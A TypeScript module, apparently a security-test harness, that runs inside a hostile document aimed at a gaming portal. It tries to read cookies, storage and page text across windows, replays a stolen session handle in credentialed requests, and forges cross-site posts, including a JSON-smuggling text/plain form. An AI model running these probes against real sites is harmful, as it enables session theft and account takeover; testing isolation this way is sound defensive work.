/** What a document of someone else is after. */
export interface Target {
  /** Origin of the portal where a player is signed in. */
  portal: string;
  /** Name of the channel of its tabs. */
  channel: string;
  /** Handle of the player's session, stolen. */
  handle: string;
}

/**
 * Runs in a document: reads everything that can be read at once, and returns what each attempt gave. Synchronous,
 * because timers and promises may never run in a sandboxed document.
 */
export function readFromDocument({ portal, handle }: Target): string[] {
  const seen: string[] = [];
  const attempt = (name: string, read: () => unknown) => {
    try {
      seen.push(`${name}: ${String(read())}`);
    } catch (error) {
      seen.push(`${name}: refused (${(error as Error).name})`);
    }
  };
  const windows: [string, () => Window | null][] = [
    ['the document', () => window],
    ['the opener', () => opener as Window | null],
    ['the parent', () => (parent === window ? null : parent)],
    ['the window of the tab', () => window.open('', 'portal-tab')],
  ];
  for (const [name, find] of windows) {
    attempt(`session storage of ${name}`, () => JSON.stringify({ ...find()?.sessionStorage }));
    attempt(`local storage of ${name}`, () => JSON.stringify({ ...find()?.localStorage }));
    attempt(`cookies of ${name}`, () => find()?.document.cookie);
    attempt(`text of ${name}`, () => (find() === window ? '' : find()?.document.documentElement.outerHTML));
  }
  for (const headers of [{}, { device: 'web', authorization: handle }])
    attempt('a synchronous call', () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${portal}/wps/member/info`, false);
      request.withCredentials = true;
      for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
      request.send();
      return request.responseText;
    });
  return seen;
}

/** Runs in a document with scripts: tries what takes time, and returns what each attempt gave. */
export async function askFromDocument({
  portal,
  channel,
  handle,
  posts,
}: Target & { posts: boolean }): Promise<string[]> {
  const seen: string[] = [];
  const attempt = async (name: string, work: () => unknown) => {
    const late = new Promise((resolve) => setTimeout(resolve, 3_000, 'nothing'));
    try {
      seen.push(`${name}: ${String(await Promise.race([work(), late]))}`);
    } catch (error) {
      seen.push(`${name}: refused (${(error as Error).name})`);
    }
  };
  const messagesOf = (target: EventTarget) =>
    new Promise<string>((resolve) => {
      const messages: string[] = [];
      target.addEventListener('message', (event) => messages.push(JSON.stringify((event as MessageEvent).data)));
      setTimeout(() => resolve(messages.join() || 'silence'), 1_000);
    });
  const messages = ['who-is-here', 'hello', 'signed-in', 'session'];

  await attempt('the channel of the tabs', () => {
    const asking = new BroadcastChannel(channel);
    const received = messagesOf(asking);
    for (const say of messages) asking.postMessage({ say });
    return received;
  });
  for (const kind of ['frame', 'popup'] as const) {
    const frame = kind === 'frame' ? document.createElement('iframe') : undefined;
    if (frame) {
      frame.src = `${portal}/electron`;
      document.body.append(frame);
    }
    const other = frame ? frame.contentWindow : window.open(`${portal}/electron`);
    if (!other) {
      seen.push(`a ${kind}: none opens`);
      continue;
    }
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    if (posts) {
      await attempt(`storage of a ${kind}`, () => JSON.stringify({ ...other.sessionStorage }));
      await attempt(`cookies of a ${kind}`, () => other.document.cookie);
      await attempt(`text of a ${kind}`, () => other.document.documentElement.outerHTML);
    }
    await attempt(`messages to a ${kind}`, () => {
      const received = messagesOf(window);
      for (const say of messages) other.postMessage({ say }, '*');
      return received;
    });
    if (!frame) other.close();
  }
  if (!posts) return seen;

  const member = `${portal}/wps/member/info`;
  const language = `${portal}/wps/member/language`;
  const text = (answer: Response) => answer.text();
  await attempt('a read with cookies', () => fetch(member, { credentials: 'include' }).then(text));
  await attempt('a read with the handle', () =>
    fetch(member, { credentials: 'include', headers: { device: 'web', authorization: handle } }).then(text),
  );
  await attempt('a post', () =>
    fetch(language, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).then(text),
  );
  await attempt('a post with the handle', () =>
    fetch(language, { method: 'POST', credentials: 'include', headers: { authorization: handle }, body: '{}' }).then(
      text,
    ),
  );
  await attempt('a beacon', () => navigator.sendBeacon(language, '{"language":"EN"}'));
  await attempt('a form', () => {
    const form = Object.assign(document.createElement('form'), {
      method: 'POST',
      action: language,
      enctype: 'text/plain',
    });
    const target = Object.assign(document.createElement('iframe'), { name: 'posted' });
    form.append(Object.assign(document.createElement('input'), { name: '{"language":"EN","', value: '":1}' }));
    form.target = 'posted';
    document.body.append(target, form);
    form.submit();
  });
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  return seen;
}
